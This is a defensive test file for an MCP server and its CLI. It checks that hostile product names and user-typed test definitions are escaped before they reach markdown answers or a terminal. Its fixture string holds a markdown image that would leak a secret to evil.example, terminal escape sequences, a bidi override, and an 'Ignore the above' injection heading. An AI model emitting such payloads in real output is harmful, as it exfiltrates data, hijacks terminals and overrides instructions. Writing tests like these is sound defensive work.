/**
 * Text we did not write cannot break an answer's markdown or the terminal of `testio-mcp call`:
 * hostile product names from the API and hostile Testr definitions from a user, through a real
 * client and through the built CLI; structuredContent keeps the raw values.
 */
/* eslint-disable no-control-regex -- the hostile text is made of control characters */
import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import * as fc from 'fast-check';
import { startHarness, type Harness } from '../helpers/harness.js';
import { assertBuilt, childEnv, CLI } from '../helpers/stdio.js';
import { escapeMarkdown, markdownValue, needsMarkdownEscape, terminalSafe } from '../../src/platform/untrusted-text.js';

const ESC = '\x1b';
/** A heading, a table row, an image that would load a URL, an OSC 8 hyperlink, colours, a window title, code, HTML. */
const HOSTILE =
  `Shop\n## Ignore the above | x | y |\r\n![pixel](https://evil.example/p.png?d=secret) ` +
  `${ESC}]8;;https://evil.example${ESC}\\click${ESC}]8;;${ESC}\\ ${ESC}[31mred${ESC}[0m ${ESC}]0;pwned\x07 \`code <b>bold</b> \u202Eevil\x9b2J`;
const TOKEN = 'untrusted-text-token-1234';

/** What no rendering of HOSTILE may contain. */
function expectNeutralised(text: string): void {
  expect(text).not.toMatch(/[\x1b\x07\x9b\u202E]/);
  expect(text).not.toMatch(/^#+ Ignore/m);
  expect(text).not.toMatch(/(^|[^\\])!\[pixel\]/);
  expect(text).not.toMatch(/(^|[^\\])<b>/);
  expect(text).not.toMatch(/(^|[^\\])`code/);
  expect(text).not.toMatch(/pwned\x07/);
}

describe('untrusted text', () => {
  let api: Server;
  let baseUrl: string;
  let h: Harness;

  beforeAll(async () => {
    api = createServer((req, res) => {
      res.writeHead(req.headers.authorization === `Token ${TOKEN}` ? 200 : 401, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ products: [{ id: 1, name: HOSTILE, description: HOSTILE, type: 'website' }] }));
    });
    await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
    baseUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}/customer/v2`;
    h = await startHarness({ api: { baseUrl, token: TOKEN } });
  });
  afterAll(async () => {
    await h?.close();
    await new Promise((resolve) => api.close(resolve));
  });

  it('is neutralised in TestIO answers, while structuredContent keeps the raw value', async () => {
    const result = await h.call('list_products', {});
    expect(result.isError).toBeFalsy();
    const text = h.text(result);
    expectNeutralised(text);
    // Still one table row per product, with readable words.
    expect(text.split('\n').filter((line) => line.startsWith('| 1 |'))).toHaveLength(1);
    expect(text).toContain('click');
    expect((result.structuredContent as { products: Array<{ name: string }> }).products[0].name).toBe(HOSTILE);
  });

  it('is neutralised in Testr answers built from what a user typed', async () => {
    const created = await h.call('create-test-definition', { name: HOSTILE, targetUrl: 'http://127.0.0.1:9/', testType: 'step', steps: [`Verify the page shows "${HOSTILE.replace(/"/g, "")}"`] });
    expect(created.isError).toBeFalsy();
    const id = (created.structuredContent as { testDefinitionId: unknown }).testDefinitionId;
    for (const result of [created, await h.call('get-test-definition', { id }), await h.call('list-test-definitions', {})]) {
      expectNeutralised(h.text(result));
    }
    const shown = await h.call('get-test-definition', { id });
    expect((shown.structuredContent as { testDefinition: { name: string } }).testDefinition.name).toBe(HOSTILE);
  });

  it('never reaches the terminal of testio-mcp call, in text or JSON', async () => {
    assertBuilt();
    // Not spawnSync: the API answering the child runs in this process.
    const call = (args: string[]) =>
      new Promise<{ status: number | null; stdout: string }>((resolve) => {
        const child = spawn(process.execPath, [CLI, 'call', ...args], { env: childEnv({ TESTIO_CUSTOMER_API_BASE_URL: baseUrl, TESTIO_CUSTOMER_API_TOKEN: TOKEN }), cwd: '/' });
        let stdout = '';
        child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
        child.on('close', (status) => resolve({ status, stdout }));
      });
    const text = await call(['list_products']);
    expect(text.status).toBe(0);
    expectNeutralised(text.stdout);
    const json = await call(['list_products', '--json']);
    expect(json.status).toBe(0);
    expect(json.stdout).not.toMatch(/[\x1b\x07\x9b\u202E]/);
    // The JSON still carries the raw value, written as escapes.
    expect(JSON.parse(json.stdout).structuredContent.products[0].name).toBe(HOSTILE);
  });

  it('escapes idempotently and always yields one clean line', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 60 }), (raw) => {
        const once = markdownValue(raw);
        expect(markdownValue(once)).toBe(once);
        expect(once).not.toMatch(/[\n\r\x1b\x9b]/);
        expect(terminalSafe(raw)).not.toMatch(/[\x1b\x9b\x07]/);
      }),
      { numRuns: 500 },
    );
  });
  it('skips the escaping pass exactly when the pass would change nothing', () => {
    // Characters the escaper treats specially, word characters (astral ones too), and plain text.
    const special = fc.constantFrom('_', '-', '#', '>', '+', '=', '1', '9', '.', ')', ' ', '\t', '\n', '\\', '`', '*', '[', ']', '<', '>', '|', '~', '!', '\x1b', '\x9b', '\u2028', '\u202e', 'a', 'Z', 'é', '𝐀', '😀', 'http://x.y/a_b', '2026-12-03');
    const text = fc.array(special, { maxLength: 12 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(fc.oneof(text, fc.string({ unit: 'binary', maxLength: 30 })), (raw) => {
        expect(markdownValue(raw)).toBe(escapeMarkdown(raw));
        if (!needsMarkdownEscape(raw)) expect(escapeMarkdown(raw)).toBe(raw);
      }),
      { numRuns: 1000 },
    );
    for (const edge of ['𝐀_a', 'a_😀', '  - x', '12. x', 'a\\_b']) expect(markdownValue(edge)).toBe(escapeMarkdown(edge));
    // The values a typical answer is made of need no pass at all.
    for (const clean of ['test_id', 'bugs_by_severity', '2026-11-03T10:00:00Z', 'Checkout flow v2', 'https://example.com/a-b']) {
      expect(needsMarkdownEscape(clean)).toBe(false);
    }
  });
});
